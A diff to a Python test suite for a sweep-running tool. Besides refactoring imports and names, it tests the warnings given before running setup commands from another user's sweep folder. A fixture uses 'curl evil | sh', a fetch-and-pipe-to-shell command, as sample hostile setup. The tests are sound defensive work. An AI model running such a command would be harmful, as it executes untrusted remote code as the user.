@@ -9,17 +9,17 @@ import pytest
 
 from blip2sweep.commands import other_users as theirs
 from blip2sweep.commands import run as running
-from blip2sweep.commands import table as verbs
 from blip2sweep.commands.rescore import rescore
-from blip2sweep.commands.run import begun, name_in_use
+from blip2sweep.commands.run import go_on, name_in_use
 from blip2sweep.commands.sweeps import relaunch, retry
 from blip2sweep.commands.table import show_table
 from blip2sweep.errors import UserError
-from blip2sweep.files import write_json
-from blip2sweep.planning.packs import pack_path
-from blip2sweep.results.collect import collect, is_current
+from blip2sweep.planning.packs import pack_path, write_packs
+from blip2sweep.results import latest
+from blip2sweep.results.collect import collect
 from blip2sweep.results.ledger import Journal
 from blip2sweep.results.sweeps import Submission, Sweep, find_sweep
+from blip2sweep.results.table_files import is_current
 from tests.composing import plan
 from tests.results.test_scoring_process import jobs, run
 
@@ -68,11 +68,11 @@ def test_the_same_command_whose_cells_have_other_keys_now(tmp_path: Path, monkey
 
 def test_a_sweeper_that_launches_its_sweep_again_extends_it(tmp_path: Path) -> None:
     """As Optuna's does, batch after batch, with one name."""
-    made = [plan(f"quant.bits={bits}", "task=shapes_vqa") for bits in (2, 4)]
+    made, begun = [plan(f"quant.bits={bits}", "task=shapes_vqa") for bits in (2, 4)], set[Path]()
     for each in made:
-        assert name_in_use(tmp_path, "opt", each) is None
+        assert name_in_use(tmp_path, "opt", each, begun) is None
         sweep = Sweep("opt", "-m", 0.0, list(each.cells), each.baselines)
-        begun(sweep, tmp_path)
+        go_on(sweep, tmp_path, begun)
         sweep.write(tmp_path)
     assert find_sweep(tmp_path, "opt").keys == list({**made[0].cells, **made[1].cells})
 
@@ -84,18 +84,12 @@ def test_a_sweeper_that_launches_its_sweep_again_extends_it(tmp_path: Path) -> N
 def other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     """A sweep that another user launched on Slurm, of which nothing lives."""
     launcher = {"setup": ["curl evil | sh"], "srun_args": [], "timeout_min": 5}
-    keys = [j["key"] for j in jobs("task=shapes_vqa", "quant.bits=2")]
+    made = jobs("task=shapes_vqa", "quant.bits=2")
+    keys = [j["key"] for j in made]
     sweep = Sweep("s", "c", 1.0, keys, keys[:1], settings={"runner": "their.module:Runner"},
                   submissions=[Submission("r", "slurm", launcher, 1, [{"job": "1", "first": 0, "count": 1}], cancelled=1.0)])  # fmt: skip
     sweep.write(tmp_path)
-    write_json(
-        pack_path(sweep.folder(tmp_path), "r", 0),
-        {
-            "cells": [{"key": k, "model": 0, "task": 0, "columns": {}, "recipe": []} for k in keys],
-            "models": [0],
-            "tasks": [0],
-        },
-    )
+    write_packs([made], sweep.folder(tmp_path), "s", "r", tmp_path, {})
     monkeypatch.setattr("blip2sweep.running.queue.squeue", lambda *_: ([], True))
     monkeypatch.setattr("blip2sweep.commands.sweeps.relaunch", lambda *_: False)
     return tmp_path
@@ -110,7 +104,7 @@ def test_retry_says_what_it_runs(
     told = capsys.readouterr().err
     assert "running 2 cells again" in told
     assert (
-        "this runs what that folder says, as you: setup: ['curl evil | sh'], runner: 'their.module:Runner'" in told
+        "this runs what that folder says, as you: setup: ['curl evil | sh'], backend: 'their.module:Runner'" in told
     ) != mine
 
 
@@ -139,7 +133,7 @@ def test_rescore_says_whose_sweeps_they_are(
     assert "setup" not in capsys.readouterr().err
     monkeypatch.setattr(theirs.os, "geteuid", lambda: os.getuid() + 1)
     rescore(tmp_path)
-    assert "runs none of their setup and runner" in capsys.readouterr().err
+    assert "runs none of their setup and back end" in capsys.readouterr().err
 
 
 # ---- tables
@@ -163,7 +157,7 @@ def test_a_table_is_what_the_journals_have_now_and_costs_nothing_when_nothing_is
     journal.write_text("".join(lines))
     assert rows(tmp_path, capsys) == 3
     with monkeypatch.context() as patched:
-        patched.setattr(verbs, "collect", lambda *_: pytest.fail("nothing is new"))
+        patched.setattr(latest, "collect", lambda *_: pytest.fail("nothing is new"))
         assert rows(tmp_path, capsys) == 3
         show_table(tmp_path, None, "csv", True)
         capsys.readouterr()
@@ -196,7 +190,7 @@ def test_a_folder_one_may_only_read(
     sweep.keys.append("f" * 12)
     sweep.write(tmp_path)
 
-    monkeypatch.setattr(verbs.os, "access", lambda *_: False)
+    monkeypatch.setattr(latest.os, "access", lambda *_: False)
     before = sorted(tmp_path.rglob("*"))
     show_table(tmp_path, "s", "csv", False)
     shown = capsys.readouterr()
@@ -213,7 +207,7 @@ def test_a_folder_of_which_a_part_may_not_be_written(
     def refused(*_: object) -> None:
         raise PermissionError(13, "Permission denied")
 
-    for what in ("show", "write_parquet"):
-        monkeypatch.setattr(f"blip2sweep.results.collect.{what}", refused)
+    for what in ("collect.show", "table_files.write_parquet"):
+        monkeypatch.setattr(f"blip2sweep.results.{what}", refused)
         show_table(tmp_path, "s", "csv", False)
         assert "may not be written by you" in capsys.readouterr().err
